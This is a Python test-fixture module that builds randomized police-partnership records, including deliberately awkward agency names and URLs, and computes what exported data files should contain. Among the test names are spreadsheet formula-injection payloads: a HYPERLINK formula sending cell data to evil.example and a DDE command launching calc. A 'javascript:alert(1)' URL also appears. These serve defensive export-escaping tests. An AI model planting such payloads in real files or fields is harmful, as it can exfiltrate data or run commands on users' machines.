"""Partnerships made for tests: hard names, dates of every precision, points or none; and what files must say."""

from __future__ import annotations

import random
from datetime import date, timedelta
from itertools import count

from partnerships.actions.releases.publish import publish
from partnerships.dates import Span
from partnerships.models import Agency, Partnership, ReleaseRow
from partnerships.models.vocabulary import Certainty, DateBasis, Kind, LocationPrecision, Program, Status
from partnerships.partnership_rules.in_force import in_force

HARD_NAMES = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-2+3",
    "+1 (555) 0100",
    "@SUM(1,2)",
    "\tTabbed Police",
    "\rReturned Police",
    'O\'Fallon Police, "Downtown"; Annex',
    "Two\nLines Police",
    "Windows\r\nLines Police",
    "Émile-Zola Ñuñoa Police",
    "Police 🚓 Department 👮🏽‍♀️",
    "شرطة المدينة",
    "‮desrever Police",
    'משטרת העיר, "Precinct" 5',
    "<b>Bold</b> & Sons ]]> Police",
    "_x0041_ Police _x000D_",
    "Bell\x07 and \x1b escape Police",
    " leading and trailing ",
    "007",
    "1e5",
    "2020-07",
    "3/4",
    "TRUE",
    "NULL",
    "\\.",
    "back\\slash \\N Police",
    "Ümlaut" * 50,
    "'quoted",
    "{=1+1}",
    "ﬁ ligature，＝1+1",
    "%s %(name)s 100%",
    "\ufeffByte order mark Police",
)
LONG = "A sentence of evidence, “quoted”; with semicolons. " * 200
"""10,000 characters and more: no name may be so long, what the sources say may."""
URLS = (
    "https://news.example/a?b=1&c=<d>",
    "https://news.example/x;jsessionid=1",
    'https://news.example/"quoted"',
    "javascript:alert(1)",
)
NUMBERS = count(1)


def add(chance: random.Random, name: str) -> Partnership:
    """One more partnership, its values chosen by chance."""
    number = next(NUMBERS)
    program = chance.choice(Program.values)
    agency = Agency.objects.create(
        slug=f"made-{number}",
        name=name,
        kind=chance.choice(Kind.values),
        state=chance.choice(["CA", "TX", "NJ", "FL"]),
    )
    return Partnership.objects.create(agency=agency, program=program, **values(chance, agency))


def values(chance: random.Random, agency: Agency) -> dict:
    """Every column of a flat record but the program."""
    start, end = span(chance), chance.choice([None, None, span(chance)])
    announced, status = chance.choice([None, span(chance)]), chance.choice(Status.values)
    shown_until = chance.choice([None, day(chance)])
    disputed = status == Status.DENIED
    days = in_force(start=start, end=end, attested_until=shown_until, disputed=disputed, ended_by=None)
    placed = chance.random() < 0.8
    return {
        "agency_name": agency.name,
        "agency_slug": agency.slug,
        "agency_kind": agency.kind,
        "city": chance.choice(["", "Fresno", "=Springfield", "Saint Paul, East", "Doña Ana"]),
        "county": chance.choice(["", "San Diego County", "Lake County"]),
        "county_fips": chance.choice(["", "06073", "01001"]),
        "state": agency.state,
        "status": status,
        "statuses": [chance.choice(Status.values), status],
        "status_days": [day(chance)],
        "possible": days.possible,
        "certain": days.certain,
        "attested_until": shown_until,
        "announced": announced.to_range() if announced else None,
        "announced_precision": announced.precision if announced else "",
        "overridden": chance.choice([[], [], ["status"], ["city", "start_date"]]),
        "start": start.to_range() if start else None,
        "start_precision": start.precision if start else "",
        "end": end.to_range() if end else None,
        "end_precision": end.precision if end else "",
        "date_basis": chance.choice(DateBasis.values) if start else "",
        "latitude": chance.choice([36.7378, -14.3, 1e-05]) if placed else None,
        "longitude": chance.choice([-119.7871, 179.99, 0.1 + 0.2]) if placed else None,
        "location_precision": chance.choice(LocationPrecision.values[:4])
        if placed
        else LocationPrecision.NONE,
        "sources": chance.choice([["announcements"], ["announcements", "eff-atlas"], ["eff-atlas"]]),
        "source_urls": chance.sample(URLS, chance.randrange(3)),
        "conflicts": chance.choice([[], [], ["Start dates differ: 2019; 2020."], ["=1+1", LONG]]),
        "listing_ids": chance.sample(range(1, 99), chance.randrange(4)),
        "first_listed_on": chance.choice([None, day(chance)]),
        "last_listed_on": chance.choice([None, day(chance)]),
    }


def day(chance: random.Random) -> date:
    return date(2018, 1, 1) + timedelta(days=chance.randrange(2_000))


def span(chance: random.Random) -> Span | None:
    on = day(chance)
    return chance.choice([None, Span.day(on), Span.month(on.year, on.month), Span.year(on.year), Span.by(on)])


def edit(chance: random.Random) -> None:
    """What a run or a curator may do to the computed partnerships, by chance."""
    for partnership in chance.sample(list(Partnership.objects.order_by("id")), 6):
        match chance.randrange(3):
            case 0:
                partnership.published = not partnership.published
            case _:
                for name, value in values(chance, partnership.agency).items():
                    setattr(partnership, name, value)
        partnership.save()
    add(chance, chance.choice(HARD_NAMES))


def fill(seed: int = 5) -> None:
    """Two versions of records with every hard name."""
    chance = random.Random(seed)
    for name in HARD_NAMES:
        add(chance, name)
    for number in range(60):
        add(chance, f"Town {number:02} Police Department")
    assert publish(actor="tests", why="Records made for tests")
    edit(chance)
    assert publish(actor="tests", why="A first edit")


def expected(row: ReleaseRow, version: int, as_of: date | None = None) -> dict:
    """What a file must say of a row, worked out without the columns' own expressions."""
    start = Span.from_range(row.start, row.start_precision) if row.start else None
    end = Span.from_range(row.end, row.end_precision) if row.end else None
    announced = Span.from_range(row.announced, row.announced_precision) if row.announced else None
    said = {
        "partnership_id": row.public_id,
        "agency": row.agency_name,
        "agency_id": row.agency_slug,
        "agency_kind": row.agency_kind,
        "city": row.city,
        "county": row.county,
        "county_fips": row.county_fips,
        "state": row.state,
        "program": row.program,
        "status": status_on(row, as_of) if as_of else row.status,
        **dates("start", start),
        **dates("end", end),
        "date_basis": row.date_basis,
        "latitude": row.latitude,
        "longitude": row.longitude,
        "location_precision": row.location_precision,
        "sources": row.sources,
        "source_count": len(row.sources),
        "evidence_count": len(row.listing_ids),
        "source_urls": row.source_urls,
        "conflicts": row.conflicts,
        "announced_on": announced.iso if announced else "",
        "attested_until": iso(row.attested_until),
        "certainty": certainty_on(row, start, end, as_of) if as_of else "",
        "overridden": row.overridden,
        "first_listed_on": iso(row.first_listed_on),
        "last_listed_on": iso(row.last_listed_on),
        "changed_on": row.changed_on.isoformat(),
        "dataset_version": version,
        "record_url": f"http://testserver/partnerships/{row.public_id}/",
    }
    return {name: None if value == "" else value for name, value in said.items()}


def status_on(row: ReleaseRow, day: date) -> str:
    return [
        row.statuses[0],
        *(s for d, s in zip(row.status_days, row.statuses[1:], strict=True) if d <= day),
    ][-1]


def certainty_on(row: ReleaseRow, start: Span | None, end: Span | None, day: date) -> str:
    """By the definition, for a row that may have been in force on the day."""
    begun = start and start.last <= day
    shown = row.attested_until and row.attested_until >= day
    may_have_ended = end and (end.first is None or end.first <= day)
    is_certain = begun and shown and not may_have_ended and row.status != Status.DENIED
    return Certainty.CERTAIN if is_certain else Certainty.POSSIBLE


def iso(day: date | None) -> str | None:
    return day.isoformat() if day else None


def dates(name: str, span: Span | None) -> dict:
    return {
        f"{name}_date": span.iso if span else "",
        f"{name}_earliest": span.first.isoformat() if span and span.first else None,
        f"{name}_latest": span.last.isoformat() if span else None,
    }
